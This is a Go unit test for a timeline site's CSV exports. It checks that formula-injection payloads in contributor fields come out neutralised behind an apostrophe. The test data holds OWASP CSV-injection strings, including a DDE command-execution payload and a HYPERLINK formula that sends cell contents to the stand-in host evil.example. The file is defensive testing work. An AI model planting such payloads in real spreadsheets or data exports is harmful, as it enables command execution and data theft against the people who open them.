package site

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"timeline/internal/content"
	"timeline/internal/geo"
)

// formulaStart reports whether a spreadsheet would read cell as a formula.
func formulaStart(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20", []rune(cell)[0])
}

// TestCSVNeutralisesFormulas fills every text field a contributor controls
// with a formula (OWASP's CSV-injection payloads) and reads both CSV files
// back: no cell may start like a formula, and every text column must hold
// its payload behind an apostrophe.
func TestCSVNeutralisesFormulas(t *testing.T) {
	gaz, err := geo.NewGazetteer([]geo.Province{{Name: "Kratie", Slug: "kratie"}})
	if err != nil {
		t.Fatal(err)
	}
	day := content.Date{Year: 2025, Month: 7, Day: 16}
	tally := content.Tally{Count: content.Count{N: 5}, SaidBy: "=cmd|' /C calc'!A0", Note: "+1+cmd", Line: 1,
		Scope: content.Scope{Until: day, Running: true, Nationwide: false, Provinces: []string{"Kratie"}, Place: "-2+3+cmd"}}
	sources := []content.Source{{Title: "=1", Publisher: "@SUM(1+1)*cmd", URL: "https://example.org/r"}}
	e := &content.Entry{
		Path: "content/entries/2025/x.md", Slug: "x", Hash: "1", Operation: "2025", Kind: "statement",
		Title: `=HYPERLINK("https://evil.example/?"&A1,"Click")`, Date: day, DateNote: "+cmd", Provinces: []string{"Kratie"},
		Places: []string{"-cmd", "Snuol"}, Summary: "@cmd", Tags: []string{"\t=cmd", "raid"},
		Nationalities: []content.Nationality{{Country: "\r=cmd"}},
		Figures:       []content.Figure{{Key: "arrested", Values: []content.Tally{tally}}},
		Sources:       sources,
	}
	op := &content.Operation{ID: "2025", Name: "2025 crackdown", Start: content.Date{Year: 2025, Month: 1, Day: 1}, Sources: sources,
		Figures: []content.Figure{{Key: "arrested", Values: []content.Tally{tally}}}}
	s, err := New(&content.Site{Settings: content.Settings{Title: "T", BaseURL: "https://example.org/"}, Provinces: gaz,
		Operations: []*content.Operation{op}, Entries: []*content.Entry{e}}, "")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []struct {
		name string
		make func() ([]byte, error)
		text []string // columns that hold a payload
	}{
		{"data/entries.csv", func() ([]byte, error) { return s.EntriesCSV(nil) }, []string{"title", "date_note", "places", "summary", "nationalities", "tags"}},
		{"data/tallies.csv", s.TalliesCSV, []string{"place", "said_by", "note", "source_publishers"}},
		{"data/sources.csv", s.SourcesCSV, []string{"title", "publisher"}},
	} {
		data, err := f.make()
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f.name, err)
		}
		if len(rows) < 2 {
			t.Fatalf("%s: no rows", f.name)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				col := rows[0][i]
				if formulaStart(cell) {
					t.Errorf("%s: column %s starts like a formula: %q", f.name, col, cell)
				}
				if slices.Contains(f.text, col) && !strings.HasPrefix(cell, "'") {
					t.Errorf("%s: column %s holds %q, want its payload behind an apostrophe", f.name, col, cell)
				}
			}
		}
	}
}

func TestNeutraliseCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\tx": "'\tx", "\rx": "'\rx", "\uFF1D1": "'\uFF1D1",
		"Kratie": "Kratie", "2025-07-16": "2025-07-16", "312": "312", "": "", "a=b": "a=b", "'=1": "'=1",
	} {
		if got := NeutraliseCell(in); got != want {
			t.Errorf("NeutraliseCell(%q) = %q, want %q", in, got, want)
		}
	}
}
